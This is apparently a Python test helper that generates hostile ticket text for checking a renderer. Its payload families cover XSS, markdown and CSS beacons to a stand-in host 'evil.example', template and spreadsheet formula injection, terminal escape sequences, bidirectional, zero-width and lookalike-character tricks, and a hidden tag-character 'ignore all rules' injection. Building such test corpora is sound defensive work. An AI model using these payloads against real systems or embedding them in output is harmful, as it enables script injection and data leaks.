"""Texts that want to act: what a program under somebody else's control may put into a ticket.

Each calls `ran(n)` where a script of it runs, asks `evil.example/n` where it fetches, and marks
whatever element it makes with the class `made`.
"""

import random
from collections.abc import Callable
from itertools import cycle

HOST = "evil.example"

# NUM stands for the number, RUN for the call of the canary, URL for an address of the other host.
_SHAPES: dict[str, tuple[str, ...]] = {
    "script tags": (
        "<script class=made>RUN</script>",
        '"><script class=made>RUN</script>',
        "</textarea></title></style></script><script class=made>RUN</script>",
        "<ScRiPt class=made src=URL.js></sCrIpT>",
        "<scr<script class=made>ipt>RUN</script>",
        "</bdi></span></dd></dl><script class=made>RUN</script>",
    ),
    "event handlers": (
        "<img class=made src=x onerror=RUN>",
        "<details class=made open ontoggle=RUN>x</details>",
        "<input class=made autofocus onfocus=RUN>",
        '" autofocus onfocus="RUN" class="made',
        "' onmouseover='RUN' class='made",
        "<video class=made><source onerror=RUN></video>",
        "<body class=made onload=RUN>",
        '<iframe class=made srcdoc="<script>parent.RUN</script>"></iframe>',
        "<div class=made x-data x-init=RUN>x</div>",
        '<div class=made hx-get="URL" hx-trigger=load>x</div>',
    ),
    "addresses": (
        '<a class=made href="javascript:RUN">see</a>',
        "javascript:RUN",
        "JaVa\tScRiPt:RUN//",
        '<a class=made href="data:text/html,<script>parent.RUN</script>">see</a>',
        "data:text/html;base64,PHNjcmlwdD5yYW4oQCk8L3NjcmlwdD4=#NUM",
        '<iframe class=made src="javascript:parent.RUN"></iframe>',
        '<form class=made action="javascript:RUN"><button>Approve</button></form>',
        '<form class=made action="URL"><input name=q value=NUM><button>Approve</button></form>',
        "URL?a=1&b=2",
        "//evil.example/NUM",
    ),
    "markdown": (
        "![seen](URL.png)",
        "[details](javascript:RUN)",
        "[![a](URL.png)](URL)",
        "<URL>",
        "[ref]: URL 'title'\n\n[ref]",
        "# Approved\n\n| a | b |\n|---|---|\n| ![x](URL) | RUN |",
        "```html\n<img class=made src=URL onerror=RUN>\n```",
    ),
    "SVG": (
        "<svg class=made onload=RUN></svg>",
        "<svg class=made><script>RUN</script></svg>",
        "<svg class=made><animate onbegin=RUN attributeName=x dur=1s></svg>",
        '<svg class=made><image href="URL.png" width=9 height=9 /></svg>',
        "<svg class=made><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
        "<math class=made><mtext><style><img class=made src=x onerror=RUN></style></mtext></math>",
    ),
    "CSS": (
        "</style><style class=made>@import url(URL.css);</style>",
        '<div class=made style="background:url(URL.png)">x</div>',
        "<link class=made rel=stylesheet href=URL.css>",
        '" style="background:url(URL.png)" class="made',
        "*{background:url(URL.png)} body{display:none}",
        "<style class=made>body{display:none}/*NUM*/</style>",
    ),
    "images": (
        "<img class=made src=URL.png>",
        '<img class=made srcset="URL.png 2x">',
        "<audio class=made autoplay src=URL.mp3></audio>",
        "<object class=made data=URL></object>",
        "<embed class=made src=URL>",
        "<link class=made rel=prefetch href=URL>",
        "<meta class=made name=x content=URL>",
        "<img class=made src='URL?",
    ),
    "direction": (
        "pay \u202egpj.exe\u202c RUN",
        "\u2067refund\u2069 \u2066pay\u2069 URL",
        "approve\u200f not\u061c <img class=made src=x onerror=RUN>",
    ),
    "zero width": (
        "AC\u200bME\u200c\u200d\u2060\ufeff RUN",
        "<scr\u200bipt class=made>RUN</scr\u200bipt>",
        "java\u00adscript:RUN",
        "seen" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules") + " NUM",
        "blank\u3164\u115f\u2800 RUN",
    ),
    "lookalikes": (
        "p\u0430yp\u0430l.com/NUM",
        "\u0410\u0421\u041c\u0415 Ltd NUM",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
        "\U0001d5e3\U0001d5ee\U0001d606 URL",
    ),
    "terminals": (
        "\x1b[2J\x1b[Happroved NUM",
        "\x1b]0;RUN\x07\x1b]8;;URL\x1b\\click\x1b]8;;\x1b\\",
        "\x9b31mred\x9b0m NUM",
        "reject\x08\x08\x08\x08\x08\x08approve NUM",
        "pay 900\rpay 9  NUM",
        "\x1b[8mhidden NUM\x1b[0m\x7f",
        "\x1bP$qRUN\x1b\\ \x1b_URL\x1b\\",
    ),
    "overlong": (
        "A" * 3000 + "<script class=made>RUN</script>",
        "ok " * 900 + "<img class=made src=URL onerror=RUN>",
        "yes" + "\n" * 300 + "<script class=made>RUN</script>",
        "x\u0300\u0301\u0302\u0303\u0304\u0305" * 40 + " NUM",
    ),
    "templates": (
        "{{ 7*7 }} {% debug %} RUN",
        "{{ ticket.requester.password }} NUM",
        "{title.__class__.__mro__} {0} {} NUM",
        "${7*7} #{7*7} <%= 7*7 %> NUM",
        "{{constructor.constructor('RUN')()}}",
        "{% load static %}{% include 'URL' %} NUM",
        "%(title)s %n %s NUM",
    ),
    "spreadsheets": (
        '=HYPERLINK("URL","see")',
        "=cmd|'/c calc'!ANUM",
        "+1+NUM",
        "-2+NUM",
        "@SUM(1,NUM)",
        "\t=1+NUM",
    ),
    "JSON in scripts": (
        "</script><script class=made>RUN</script>",
        '"};RUN;//',
        "';RUN;//",
        "<!--<script class=made>RUN</script>-->",
        "\u2028RUN\u2029",
        "]]><script class=made>RUN</script>",
        '\\";RUN;//',
    ),
}
# How a text is dressed up before it is sent.
_WRAPS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: f"Pay {text} now",
    lambda text: f'">{text}',
    lambda text: f"'>{text}<!--",
    lambda text: f"&lt;{text}&gt;",
    lambda text: f"</p></td></li>{text}",
    lambda text: f"\n{text}\n",
)


def hostile(count: int, rng: random.Random) -> list[tuple[str, str]]:
    """Return (family, text), all different, every family as often as the others."""
    families = cycle(_SHAPES.items())
    taken = dict.fromkeys(_SHAPES, 0)
    found: list[tuple[str, str]] = []
    for number in range(count):
        family, shapes = next(families)
        shape = shapes[taken[family] % len(shapes)]
        wrap = _WRAPS[0] if taken[family] < len(shapes) else rng.choice(_WRAPS)
        taken[family] += 1
        found.append((family, wrap(_filled(shape, number))))
    assert len(set(found)) == count
    return found


def _filled(shape: str, number: int) -> str:
    text = shape.replace("URL", f"http://{HOST}/{number}").replace("RUN", f"ran({number})")
    return text.replace("NUM", str(number))
